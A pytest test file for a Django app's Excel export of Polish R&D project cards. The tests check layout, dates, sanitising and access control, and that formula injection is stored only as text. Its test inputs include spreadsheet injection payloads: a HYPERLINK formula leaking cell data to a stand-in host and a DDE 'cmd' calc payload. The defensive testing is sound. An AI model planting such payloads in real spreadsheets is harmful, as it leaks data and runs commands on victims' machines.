"""Excel export of a batch: the pure module read back with openpyxl, then the view."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from urllib.parse import quote

import openpyxl
import pytest
from django.urls import reverse

from batches.models import Project
from cards.export.docx import BatchDoc
from cards.export.xlsx import MAX_CELL_CHARS, render_batch
from cards.models import Section
from cards.sanitize import html_to_text
from cards.sections import SECTION_HEADINGS, SECTION_KEYS
from cards.tests.factories import OTHERS, generate_now
from cards.tests.test_export_docx import DIRT, POLISH, make_batch, make_card, with_section

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
INPUT_HEADERS = ["Wiersz w arkuszu", "Nazwa projektu", "Data rozpoczęcia", "Data zakończenia", "Osoba odpowiedzialna"]
HEADERS = INPUT_HEADERS + [SECTION_HEADINGS[k] for k in SECTION_KEYS]
HOSTILE = ['=HYPERLINK("http://zly.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]


def read(data: bytes):
    assert data[:2] == b"PK"
    return openpyxl.load_workbook(io.BytesIO(data)).active


def values(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# --------------------------------------------------------------------------- pure module


def test_one_row_per_project_with_input_columns_then_one_column_per_section():
    batch = make_batch(3)
    sheet = read(render_batch(batch))
    rows = values(sheet)
    assert rows[0] == HEADERS
    assert len(rows) == 4
    for row, card in zip(rows[1:], batch.cards, strict=True):
        assert row[1] == card.title
        assert row[2:4] == [datetime.datetime(2024, 2, 1), datetime.datetime(2024, 11, 30)]
        assert row[4] == "Łukasz Żółkiewski"
        assert row[5:] == [html_to_text(body) for _h, body, _k in card.sections]
    assert sheet.title == "Karty projektów B+R"


def test_row_number_is_a_number_and_dates_are_real_dates_shown_the_polish_way():
    sheet = read(render_batch(make_batch(cards=(make_card(row_number=17),))))
    assert sheet["A2"].value == 17
    assert sheet["C2"].is_date and sheet["C2"].number_format == "DD.MM.YYYY"
    assert sheet["D2"].is_date


def test_header_row_is_frozen_bold_filtered_and_text_wraps():
    sheet = read(render_batch(make_batch(2)))
    assert sheet.freeze_panes == "C2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.auto_filter.ref == "A1:M3"
    assert all(cell.alignment.wrap_text for cell in sheet[2][1:])


def test_column_widths_suit_their_content():
    sheet = read(render_batch(make_batch(1)))
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLM"]
    assert widths[:5] == [10, 40, 14, 14, 24]
    assert widths[5:] == [60] * 8


def test_section_html_becomes_plain_text_with_list_items_and_lines():
    body = "<div>Wstęp <strong>gruby</strong></div><ul><li>punkt A</li><li>punkt B</li></ul><div>a<br>b</div>"
    sheet = read(render_batch(make_batch(cards=(with_section(make_card(), "cel_projektu", body),))))
    assert sheet["G2"].value == "Wstęp gruby\n\n- punkt A\n- punkt B\n\na\nb"


def test_missing_sections_leave_empty_cells_and_unknown_sections_get_their_own_column():
    card = make_card(sections=(("Cel projektu", "<div>cel</div>"), ("Uwagi klienta", "<div>uwaga</div>")))
    rows = values(read(render_batch(make_batch(cards=(card,)))))
    assert rows[0] == HEADERS + ["Uwagi klienta"]
    assert rows[1][HEADERS.index("Cel projektu")] == "cel"
    assert rows[1][HEADERS.index("Opis projektu")] is None
    assert rows[1][-1] == "uwaga"


def test_polish_letters_survive_in_headers_and_cells():
    sheet = read(render_batch(make_batch(1)))
    assert sheet["B2"].value.endswith(POLISH)
    assert POLISH in sheet["F2"].value
    assert sheet["E1"].value == "Osoba odpowiedzialna"


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_stored_as_a_string_never_a_formula(text):
    card = make_card(title=text, responsible_person=text, body=f"<div>{text}</div>")
    data = render_batch(make_batch(cards=(card,)))
    sheet = read(data)
    for cell in (sheet["B2"], sheet["E2"], sheet["F2"]):
        assert cell.value == text  # unchanged, no visible apostrophe
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_ordinary_text_gets_no_quote_prefix():
    sheet = read(render_batch(make_batch(1)))
    assert not sheet["B2"].quotePrefix


def test_control_characters_never_break_the_workbook():
    card = make_card(title=f"Tytuł{DIRT}koniec", responsible_person=f"Anna{DIRT}Nowak", body=f"<div>a{DIRT}b</div>")
    sheet = read(render_batch(BatchDoc(name=f"Partia{DIRT}", created=datetime.date(2025, 1, 1), cards=(card,))))
    assert sheet["B2"].value == "Tytuł koniec"
    assert sheet["E2"].value == "Anna Nowak"
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", sheet["F2"].value)


def test_text_longer_than_an_excel_cell_is_cut_and_marked():
    huge = "ż" * 40_000 + "😀" * 100
    sheet = read(render_batch(make_batch(cards=(make_card(body=f"<div>{huge}</div>"),))))
    value = sheet["F2"].value
    assert len(value.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
    assert value.startswith("ż" * 1000) and value.endswith("(tekst skrócony — pełna treść w eksporcie do Word)")


def test_empty_batch_has_only_the_header_row():
    assert values(read(render_batch(make_batch(0)))) == [HEADERS]


def test_module_is_importable_without_django():
    import os
    import subprocess
    import sys
    from pathlib import Path

    code = "import sys, cards.export.xlsx; assert 'django' not in sys.modules, 'imports Django'"
    env = {k: v for k, v in os.environ.items() if k != "DJANGO_SETTINGS_MODULE"}
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).resolve().parents[2], env=env)


# --------------------------------------------------------------------------- view


def download(response):
    return read(b"".join(response.streaming_content))


@pytest.mark.parametrize("htmx", [False, True])
def test_batch_xlsx_export_has_every_project_named_after_the_batch_in_polish(client, owner, make_batch, htmx):
    batch = make_batch(owner, projects=3, name="Zakład Łódź — karty B+R 2024")
    generated = generate_now(batch.projects.get(row_number=3))
    client.force_login(owner)
    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
    response = client.get(reverse("batch_export_xlsx", args=[batch.pk]), **headers)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert "filename*=utf-8''" + quote("Zakład Łódź — karty B+R 2024.xlsx") in disposition
    rows = values(download(response))
    assert rows[0] == HEADERS
    assert [row[0] for row in rows[1:]] == [2, 3, 4]  # projects without a card yet are listed too
    by_row = {row[0]: row for row in rows[1:]}
    sections = {s.key: s.text for s in Section.objects.filter(project=generated)}
    assert by_row[3][5:] == [html_to_text(sections[key]) for key in SECTION_KEYS]
    assert by_row[2][5:] == [None] * 8


def test_batch_xlsx_export_guards_model_and_user_text_against_formulas(client, owner, make_batch):
    batch = make_batch(owner, projects=1)
    project = generate_now(batch.projects.get())
    Project.objects.filter(pk=project.pk).update(name="=cmd|' /C calc'!A0", responsible_person="@Kowalski")
    Section.objects.filter(project=project, key="koszty").update(text="<div>-100 zł</div>")
    client.force_login(owner)
    sheet = download(client.get(reverse("batch_export_xlsx", args=[batch.pk])))
    for cell, text in ((sheet["B2"], "=cmd|' /C calc'!A0"), (sheet["E2"], "@Kowalski"), (sheet["L2"], "-100 zł")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_batch_xlsx_file_name_drops_characters_file_systems_refuse(client, owner, make_batch):
    batch = make_batch(owner, projects=1, name='Klient: "Żółw" / 2024?*')
    client.force_login(owner)
    response = client.get(reverse("batch_export_xlsx", args=[batch.pk]))
    assert "filename*=utf-8''" + quote("Klient Żółw 2024.xlsx") in response["Content-Disposition"]


@pytest.mark.parametrize("user", OTHERS)
def test_batch_xlsx_export_of_another_user_is_404(client, make_batch, owner, request, user):
    batch = make_batch(owner, projects=1)
    client.force_login(request.getfixturevalue(user))
    assert client.get(reverse("batch_export_xlsx", args=[batch.pk])).status_code == 404
    assert client.get(reverse("batch_export_xlsx", args=[batch.pk]), HTTP_HX_REQUEST="true").status_code == 404
    assert client.get(reverse("batch_export_xlsx", args=[987654])).status_code == 404


def test_batch_xlsx_export_requires_login_and_a_safe_method(client, make_batch, owner):
    batch = make_batch(owner, projects=1)
    url = reverse("batch_export_xlsx", args=[batch.pk])
    assert client.get(url)["Location"].startswith(reverse("login"))
    client.force_login(owner)
    assert client.post(url).status_code == 405


def test_batch_page_links_the_excel_export_next_to_the_word_export(client, owner, make_batch):
    batch = make_batch(owner, projects=1)
    client.force_login(owner)
    html = client.get(reverse("batch_detail", args=[batch.pk])).content.decode()
    word, excel = (
        html.index(reverse("batch_export", args=[batch.pk])),
        html.index(reverse("batch_export_xlsx", args=[batch.pk])),
    )
    assert 0 < excel - word < 200
    assert "Eksportuj do Excel" in html
